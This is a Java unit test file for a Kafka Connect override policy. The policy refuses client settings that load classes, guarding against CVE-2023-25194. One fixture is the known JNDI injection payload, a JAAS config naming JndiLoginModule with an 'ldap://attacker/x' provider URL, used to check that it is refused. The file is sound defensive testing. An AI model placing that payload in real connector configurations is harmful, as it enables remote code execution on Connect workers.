package dev.pipekeeper.connect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pipekeeper.embedded.junit.Seeds;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.common.config.ConfigValue;
import org.apache.kafka.connect.connector.policy.ConnectorClientConfigRequest;
import org.apache.kafka.connect.health.ConnectorType;
import org.apache.kafka.connect.source.SourceConnector;
import org.junit.jupiter.api.Test;

/** Which client settings load classes, and what is refused (CVE-2023-25194). */
class ClassLoadingSettingsTest {
  private static final String JNDI =
      "com.sun.security.auth.module.JndiLoginModule required"
          + " user.provider.url=\"ldap://attacker/x\" useFirstPass=\"true\";";
  private static final String SCRAM =
      "org.apache.kafka.common.security.scram.ScramLoginModule required"
          + " username=\"writer\" password=\"secret\";";

  @Test
  void theClientsOwnClassSettingsAndClassListsLoadClasses() {
    assertThat(ClassLoadingSettings.loadsClasses("sasl.jaas.config")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("sasl.login.callback.handler.class")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("sasl.client.callback.handler.class")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("interceptor.classes")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("metric.reporters")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("key.serializer")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("partitioner.class")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("config.providers")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("config.providers.file.class")).isTrue();
    assertThat(ClassLoadingSettings.loadsClasses("bootstrap.servers")).isFalse();
    assertThat(ClassLoadingSettings.loadsClasses("sasl.mechanism")).isFalse();
    assertThat(ClassLoadingSettings.loadsClasses("ssl.truststore.location")).isFalse();
  }

  @Test
  void aForeignLoginModuleIsRefusedNamingItAndKafkasOwnPass() {
    List<String> refused =
        ClassLoadingSettings.refusals(
            Map.of("sasl.jaas.config", JNDI), "producer.override.", Set.of(), "the allow list");
    assertThat(refused)
        .containsExactly(
            "producer.override.sasl.jaas.config names the JAAS login module"
                + " com.sun.security.auth.module.JndiLoginModule for the client to load; refused"
                + " (CVE-2023-25194) unless the allow list lists sasl.jaas.config");
    assertThat(refused.get(0)).doesNotContain("attacker");
    assertThat(
            ClassLoadingSettings.refusals(
                Map.of("sasl.jaas.config", SCRAM, "bootstrap.servers", "k:9092"),
                "",
                Set.of(),
                "x"))
        .isEmpty();
  }

  @Test
  void aClassSettingIsRefusedUnlessAllowed() {
    Map<String, String> settings = Map.of("interceptor.classes", "com.example.Spy");
    assertThat(ClassLoadingSettings.refusals(settings, "", Set.of(), "allowed"))
        .singleElement()
        .asString()
        .startsWith("interceptor.classes names a class (com.example.Spy)");
    assertThat(
            ClassLoadingSettings.refusals(settings, "", Set.of("interceptor.classes"), "allowed"))
        .isEmpty();
  }

  @Test
  void randomSettingsAreRefusedExactlyWhenTheyLoadAClass() {
    long seed = Seeds.seed("connect.seed", "ClassLoadingSettingsTest");
    Random random = new Random(seed);
    List<String> keys = List.copyOf(ProducerConfig.configNames());
    for (int i = 0; i < 500; i++) {
      String key = keys.get(random.nextInt(keys.size()));
      String value = random.nextBoolean() ? "com.example.C" + i : JNDI;
      List<String> refused = ClassLoadingSettings.refusals(Map.of(key, value), "", Set.of(), "a");
      assertThat(refused.isEmpty())
          .as("seed %d: %s=%s", seed, key, value)
          .isEqualTo(!ClassLoadingSettings.loadsClasses(key));
    }
  }

  @Test
  void thePolicyRefusesAConnectorsClassLoadingOverrideUnlessTheWorkerAllowsIt() {
    ClassLoadingOverridePolicy policy = new ClassLoadingOverridePolicy();
    policy.configure(Map.of());
    List<ConfigValue> values =
        policy.validate(request(Map.of("sasl.jaas.config", JNDI, "acks", "all")));
    assertThat(values)
        .filteredOn(v -> v.name().equals("acks"))
        .allMatch(v -> v.errorMessages().isEmpty());
    assertThat(values)
        .filteredOn(v -> v.name().equals("sasl.jaas.config"))
        .singleElement()
        .satisfies(
            v ->
                assertThat(v.errorMessages())
                    .singleElement()
                    .asString()
                    .contains("CVE-2023-25194"));

    policy.configure(Map.of(ClassLoadingOverridePolicy.ALLOWED_CONFIG, "sasl.jaas.config"));
    assertThat(policy.validate(request(Map.of("sasl.jaas.config", JNDI))))
        .allMatch(v -> v.errorMessages().isEmpty());
    assertThat(policy.version()).isEqualTo(ConnectorVersion.VERSION);
  }

  private static ConnectorClientConfigRequest request(Map<String, Object> props) {
    return new ConnectorClientConfigRequest(
        "c",
        ConnectorType.SOURCE,
        SourceConnector.class,
        props,
        ConnectorClientConfigRequest.ClientType.PRODUCER);
  }
}
